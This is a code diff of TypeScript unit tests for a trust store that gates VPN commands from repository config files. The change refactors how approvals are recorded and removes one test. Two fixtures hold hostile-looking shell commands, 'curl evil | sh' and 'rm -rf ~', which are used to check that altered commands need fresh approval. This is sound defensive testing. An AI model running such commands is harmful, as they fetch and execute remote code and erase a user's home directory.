@@ -2,10 +2,17 @@ import {existsSync, readFileSync, writeFileSync} from 'node:fs';
 import path from 'node:path';
 import {afterEach, describe, expect, it} from 'vitest';
 import type {ResolvedVpn} from '../../../source/core/config/schema.js';
-import {fingerprint} from '../../../source/core/trust/fingerprint.js';
+import {vpnRequest} from '../../../source/core/trust/fingerprint.js';
 import {trustCommandFor, untrustedMessage} from '../../../source/core/trust/messages.js';
 import {TrustStore} from '../../../source/core/trust/trust-store.js';
 import {tempDir} from '../../harness/index.js';
+
+/** What `remote-sync trust` approves for these VPNs of `file`. */
+function requests(file: string, vpns: ResolvedVpn[]) {
+	return vpns.map(vpn => vpnRequest({...vpn, source: file})!);
+}
+
+const fingerprint = (vpn: ResolvedVpn) => vpnRequest(vpn)!.fingerprint;
 
 function repoVpn(file: string, overrides: Partial<ResolvedVpn> = {}): ResolvedVpn {
 	return {
@@ -33,7 +40,7 @@ describe('trust: commands from a repo config need approval', () => {
 		const store = new TrustStore({cwd: dir});
 		expect(store.isTrusted(vpn)).toBe(false);
 
-		store.trust(file, [vpn]);
+		store.trust(file, requests(file, [vpn]));
 
 		expect(store.isTrusted(vpn)).toBe(true);
 		expect(new TrustStore({cwd: dir}).isTrusted(vpn)).toBe(true);
@@ -43,7 +50,7 @@ describe('trust: commands from a repo config need approval', () => {
 	it('is pinned to the exact commands: changing any of them needs trust again', () => {
 		const store = new TrustStore({cwd: tempDir()});
 		const file = '/repo/.remotesyncrc.json';
-		store.trust(file, [repoVpn(file)]);
+		store.trust(file, requests(file, [repoVpn(file)]));
 
 		expect(store.isTrusted(repoVpn(file, {connectCmd: 'curl evil | sh'}))).toBe(false);
 		expect(store.isTrusted(repoVpn(file, {disconnectCmd: 'rm -rf ~'}))).toBe(false);
@@ -55,7 +62,7 @@ describe('trust: commands from a repo config need approval', () => {
 
 	it('does not carry trust over to the same commands in another repository', () => {
 		const store = new TrustStore({cwd: tempDir()});
-		store.trust('/a/.remotesyncrc.json', [repoVpn('/a/.remotesyncrc.json')]);
+		store.trust('/a/.remotesyncrc.json', requests('/a/.remotesyncrc.json', [repoVpn('/a/.remotesyncrc.json')]));
 		expect(store.isTrusted(repoVpn('/b/.remotesyncrc.json'))).toBe(false);
 	});
 
@@ -64,23 +71,10 @@ describe('trust: commands from a repo config need approval', () => {
 		const file = '/repo/.remotesyncrc.json';
 		const old = repoVpn(file);
 		const changed = repoVpn(file, {connectCmd: 'wg-quick up wg1'});
-		store.trust(file, [old]);
-		store.trust(file, [changed]);
+		store.trust(file, requests(file, [old]));
+		store.trust(file, requests(file, [changed]));
 		expect(store.isTrusted(changed)).toBe(true);
 		expect(store.isTrusted(old)).toBe(false);
-	});
-
-	it('lists the commands that would need approval', () => {
-		const store = new TrustStore({cwd: tempDir()});
-		const file = '/repo/.remotesyncrc.json';
-		const trusted = repoVpn(file, {name: 'ok'});
-		store.trust(file, [trusted]);
-		const untrusted = repoVpn(file, {disconnectCmd: undefined});
-
-		expect(store.untrustedCommands([trusted, untrusted, repoVpn('x', {source: undefined})])).toEqual([
-			{vpn: 'corp', file, key: 'check_cmd', command: 'wg show wg0'},
-			{vpn: 'corp', file, key: 'connect_cmd', command: 'wg-quick up wg0'},
-		]);
 	});
 
 	it('treats a damaged trust file as trusting nothing, and repairs it on the next `trust`', () => {
@@ -89,7 +83,7 @@ describe('trust: commands from a repo config need approval', () => {
 		const store = new TrustStore({cwd: dir});
 		const vpn = repoVpn('/repo/.remotesyncrc.json');
 		expect(store.isTrusted(vpn)).toBe(false);
-		store.trust('/repo/.remotesyncrc.json', [vpn]);
+		store.trust('/repo/.remotesyncrc.json', requests('/repo/.remotesyncrc.json', [vpn]));
 		expect(new TrustStore({cwd: dir}).isTrusted(vpn)).toBe(true);
 	});
 
@@ -115,7 +109,7 @@ describe('trust: where approvals live', () => {
 		const xdg = tempDir('rst-xdg-');
 		process.env.XDG_CONFIG_HOME = xdg;
 		const store = new TrustStore();
-		store.trust('/repo/.remotesyncrc.json', [repoVpn('/repo/.remotesyncrc.json')]);
+		store.trust('/repo/.remotesyncrc.json', requests('/repo/.remotesyncrc.json', [repoVpn('/repo/.remotesyncrc.json')]));
 		expect(store.path).toBe(path.join(xdg, 'remote-sync', 'trust.json'));
 		expect(JSON.parse(readFileSync(store.path, 'utf8'))).toHaveProperty(['files', '/repo/.remotesyncrc.json']);
 	});
